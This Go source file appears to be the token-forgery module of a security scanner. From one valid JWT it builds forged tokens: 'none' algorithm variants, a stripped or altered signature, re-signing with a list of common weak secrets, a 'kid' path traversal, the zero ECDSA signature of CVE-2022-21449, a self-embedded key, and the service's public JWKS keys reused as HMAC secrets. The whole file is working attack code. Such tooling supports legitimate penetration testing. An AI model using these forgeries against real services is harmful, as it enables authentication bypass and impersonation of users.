package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"maps"
	"math/big"
	"strings"
	"time"
)

// forgery is a token that nobody has issued.
type forgery struct{ token, how string }

// encode is base64url without padding (RFC 7515 section 2).
func encode(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func decode(s string) map[string]any {
	raw, err := base64.RawURLEncoding.DecodeString(s)
	if err != nil {
		return nil
	}
	var m map[string]any
	if json.Unmarshal(raw, &m) != nil {
		return nil
	}
	return m
}

func encodeJSON(m map[string]any) string {
	raw, _ := json.Marshal(m) // never fails: it was JSON before
	return encode(raw)
}

func with(m map[string]any, name string, value any) map[string]any {
	m = maps.Clone(m)
	m[name] = value
	return m
}

// forge makes tokens out of a good one. A token that is no JWT is only damaged.
func (s *scan) forge(ctx context.Context, c *Client, good string) []forgery {
	parts := strings.Split(good, ".")
	if len(parts) != 3 || decode(parts[0]) == nil || decode(parts[1]) == nil {
		return []forgery{{good + "x", "a character more"}, {good[:len(good)-1], "a character less"}}
	}
	head, claims, signature := decode(parts[0]), decode(parts[1]), parts[2]
	later := with(claims, "exp", time.Now().Add(1000*time.Hour).Unix())
	var all []forgery
	add := func(token, how string) { all = append(all, forgery{token, how}) }
	for _, alg := range []string{"none", "None", "NONE", "nOnE", ""} {
		unsigned := encodeJSON(with(head, "alg", alg)) + "." + parts[1] + "."
		add(unsigned, `algorithm "`+alg+`", no signature (RFC 8725 section 2.1)`)
		add(unsigned+signature, `algorithm "`+alg+`", the signature of another token`)
	}
	add(parts[0]+"."+parts[1]+".", "the signature removed")
	add(parts[0]+"."+parts[1], "two parts")
	add(parts[0]+"."+encodeJSON(later)+"."+signature, "other claims under the old signature")
	add(parts[0]+"."+parts[1]+"."+flip(signature), "a bit of the signature changed")
	add(parts[0]+"."+parts[1]+"."+signature[:len(signature)/8*4], "half of the signature")
	for _, secret := range []string{"", "secret", "password", "changeme", "your-256-bit-secret", "your-secret-key", "jwt-secret", "django-insecure", "supersecret", "key", "test"} {
		add(sign(with(head, "alg", "HS256"), later, []byte(secret)), `signed with the secret "`+secret+`"`)
	}
	add(sign(with(with(head, "alg", "HS256"), "kid", "../../../../../../dev/null"), later, nil), "a key id that is a path to an empty file")
	add(encodeJSON(with(head, "alg", "ES256"))+"."+parts[1]+"."+encode(make([]byte, 64)), "an ECDSA signature of zeros (CVE-2022-21449)")
	if token := ownKey(head, later); token != "" {
		add(token, "signed with a key that the token itself brings (RFC 8725 section 3.10)")
	}
	for _, key := range s.publicKeys(ctx, c) {
		add(sign(with(head, "alg", "HS256"), later, key), "the public key used as an HMAC secret (RFC 8725 section 2.1)")
	}
	return all
}

// flip changes a character that is no padding of the last byte.
func flip(s string) string {
	if s == "" {
		return "A"
	}
	replacement := "A"
	if s[0] == 'A' {
		replacement = "B"
	}
	return replacement + s[1:]
}

// sign makes a token with HMAC-SHA256.
func sign(head, claims map[string]any, secret []byte) string {
	text := encodeJSON(head) + "." + encodeJSON(claims)
	mac := hmac.New(sha256.New, secret)
	_, _ = mac.Write([]byte(text)) // never fails
	return text + "." + encode(mac.Sum(nil))
}

// ownKey makes a token that is signed by a new key and carries it.
func ownKey(head, claims map[string]any) string {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return ""
	}
	point, err := key.PublicKey.Bytes()
	if err != nil {
		return ""
	}
	jwk := map[string]any{"kty": "EC", "crv": "P-256", "x": encode(point[1:33]), "y": encode(point[33:])}
	text := encodeJSON(with(with(head, "alg", "ES256"), "jwk", jwk)) + "." + encodeJSON(claims)
	digest := sha256.Sum256([]byte(text))
	r, v, err := ecdsa.Sign(rand.Reader, key, digest[:])
	if err != nil {
		return ""
	}
	var signature [64]byte
	r.FillBytes(signature[:32])
	v.FillBytes(signature[32:])
	return text + "." + encode(signature[:])
}

// publicKeys returns the service's public keys in the forms in which a careless
// library would take them for an HMAC secret.
func (s *scan) publicKeys(ctx context.Context, c *Client) (forms [][]byte) {
	if s.target.JWKS == "" {
		return nil
	}
	got, ok := s.send(ctx, c, Request{Path: s.target.JWKS})
	if !ok {
		return nil
	}
	var set struct{ Keys []map[string]any }
	if json.Unmarshal(got.Body, &set) != nil {
		return nil
	}
	for _, jwk := range set.Keys {
		key := publicKey(jwk)
		der, err := x509.MarshalPKIXPublicKey(key)
		if err != nil {
			continue
		}
		text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		forms = append(forms, text, []byte(strings.TrimSpace(string(text))), der)
	}
	return forms
}

func publicKey(jwk map[string]any) any {
	number := func(name string) []byte {
		text, _ := jwk[name].(string)
		raw, _ := base64.RawURLEncoding.DecodeString(text) // an odd key is left out below
		return raw
	}
	switch jwk["kty"] {
	case "RSA":
		return &rsa.PublicKey{N: new(big.Int).SetBytes(number("n")), E: int(new(big.Int).SetBytes(number("e")).Int64())}
	case "EC":
		curves := map[any]elliptic.Curve{"P-256": elliptic.P256(), "P-384": elliptic.P384(), "P-521": elliptic.P521()}
		if curve := curves[jwk["crv"]]; curve != nil {
			point := append(append([]byte{4}, number("x")...), number("y")...)
			if key, err := ecdsa.ParseUncompressedPublicKey(curve, point); err == nil {
				return key
			}
		}
	}
	return nil
}
